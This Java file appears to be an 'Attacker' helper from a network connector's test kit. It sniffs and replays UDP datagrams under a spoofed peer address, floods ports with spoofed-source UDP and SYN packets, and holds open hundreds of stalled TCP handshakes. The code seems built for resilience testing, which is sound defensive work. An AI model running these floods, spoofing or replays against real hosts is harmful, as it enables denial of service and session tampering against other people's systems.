package io.virtualwire.connector;

import io.virtualwire.testkit.netns.RawSocket;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.SplittableRandom;
import java.util.random.RandomGenerator;

/**
 * An attacker's process.
 *
 * <p>{@code spy PORT} prints the session index of the next datagram to that port. {@code replay ADDRESS PORT PEER} sends the next one
 * there again, as the peer, and once more as if it were in the clear. {@code KIND ADDRESS PORT SECONDS INDEX OTHER-PORT} floods the
 * two ports in turns and prints how much it sent.
 */
final class Attacker {
    private static final int SEALED = 0x11;
    private static final byte PLAIN = 0x12;
    private static final int HEADER = 16;
    private static final int SESSION_INDEX_OFFSET = 4;
    private static final int COUNTER_OFFSET = 8;
    private static final int REPLAYS = 20;
    private static final long TURN_NANOS = 400_000_000;
    private static final int MOST_CONNECTIONS = 500;

    private final RandomGenerator random = new SplittableRandom(1);
    private final InetSocketAddress target;
    private final long end;
    private long sent;

    private Attacker(InetSocketAddress target, double seconds) {
        this.target = target;
        this.end = System.nanoTime() + (long) (seconds * 1e9);
    }

    public static void main(String[] arguments) throws IOException {
        if (arguments[0].equals("spy")) {
            System.out.println(
                    "index " + nextDatagram(Integer.parseInt(arguments[1])).getInt(SESSION_INDEX_OFFSET));
            return;
        }
        InetSocketAddress target =
                new InetSocketAddress(InetAddress.getByName(arguments[1]), Integer.parseInt(arguments[2]));
        if (arguments[0].equals("replay")) {
            replay(target, InetAddress.getByName(arguments[3]));
            return;
        }
        Attacker attacker = new Attacker(target, Double.parseDouble(arguments[3]));
        System.out.println("begins");
        if (arguments[0].equals("connections")) {
            attacker.connect();
        } else {
            attacker.flood(
                    arguments[0],
                    Integer.parseInt(arguments[4]),
                    new InetSocketAddress(target.getAddress(), Integer.parseInt(arguments[5])));
        }
        System.out.println("sent " + attacker.sent);
    }

    /** Which of two ports is flooded at that time of the machine's monotonic clock, which all its processes share. */
    static boolean isOtherPortsTurn(long nanoTime) {
        return (nanoTime / TURN_NANOS & 1) != 0;
    }

    private static void replay(InetSocketAddress target, InetAddress peer) {
        ByteBuffer genuine = nextDatagram(target.getPort());
        byte[] payload = new byte[genuine.remaining()];
        genuine.get(payload);
        try (RawSocket socket = RawSocket.sender()) {
            int source = ByteBuffer.wrap(peer.getAddress()).getInt();
            for (int i = 0; i < REPLAYS; i++) {
                socket.udp(source, target.getPort(), target, payload, payload.length);
            }
            payload[0] = PLAIN;
            // A counter that was not seen, so that the tag is what is wrong.
            payload[COUNTER_OFFSET + 2] ^= 1;
            for (int i = 0; i < REPLAYS; i++) {
                socket.udp(source, target.getPort(), target, payload, payload.length);
            }
        }
        System.out.println("replayed");
    }

    /** The payload of the next sealed datagram that passes this machine on its way to that port. */
    private static ByteBuffer nextDatagram(int port) {
        try (RawSocket spy = RawSocket.spy()) {
            while (true) {
                ByteBuffer packet = spy.receive();
                int udp = packet.limit() < 60 ? 0 : (packet.get(0) & 0xf) * 4;
                if (udp > 0
                        && packet.get(9) == 17
                        && (packet.getShort(udp + 2) & 0xffff) == port
                        && packet.get(udp + 8) == SEALED) {
                    byte[] payload =
                            new byte[Math.min(packet.limit() - udp - 8, (packet.getShort(udp + 4) & 0xffff) - 8)];
                    packet.get(udp + 8, payload);
                    return ByteBuffer.wrap(payload);
                }
            }
        }
    }

    private boolean isOver() {
        return System.nanoTime() - end > 0;
    }

    private void flood(String kind, int index, InetSocketAddress otherTarget) {
        byte[] payload = new byte[1_400];
        random.nextBytes(payload);
        ByteBuffer datagram = ByteBuffer.wrap(payload);
        try (RawSocket socket = RawSocket.sender()) {
            while (!isOver()) {
                InetSocketAddress to = isOtherPortsTurn(System.nanoTime()) ? otherTarget : target;
                for (int i = 0; i < 64; i++) {
                    int length = random.nextInt(4) == 0 ? payload.length : HEADER + random.nextInt(200);
                    int source = random.nextInt() & 0x1fff_ffff | 0x2000_0000;
                    int port = 1 + random.nextInt(65_000);
                    if (kind.equals("syn")) {
                        sent += socket.syn(source, port, to, random.nextInt()) ? 1 : 0;
                        continue;
                    }
                    switch (i % 4) {
                        case 0 -> datagram.putLong(0, random.nextLong());
                        case 1 -> header(datagram, random.nextInt());
                        default -> header(datagram, index);
                    }
                    sent += socket.udp(source, port, to, payload, length) ? 1 : 0;
                }
            }
        }
    }

    /** What a sealed datagram of that session would begin with. */
    private void header(ByteBuffer datagram, int index) {
        datagram.put(0, (byte) SEALED).put(1, (byte) 0).putInt(4, index);
        datagram.putLong(8, random.nextLong() & 0xffff_ffffL | 1L << 40);
    }

    /** Connections that say nothing, and such that begin a handshake and stop. */
    private void connect() throws IOException {
        Deque<Socket> open = new ArrayDeque<>();
        byte[] begun = {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};
        while (!isOver()) {
            try {
                Socket socket = new Socket();
                open.add(socket);
                socket.connect(target, 1_000);
                if (random.nextBoolean()) {
                    socket.getOutputStream().write(begun);
                }
                sent++;
            } catch (IOException refused) {
                // Which is what a flood earns.
            }
            if (open.size() > MOST_CONNECTIONS) {
                open.remove().close();
            }
        }
        for (Socket socket : open) {
            socket.close();
        }
    }
}
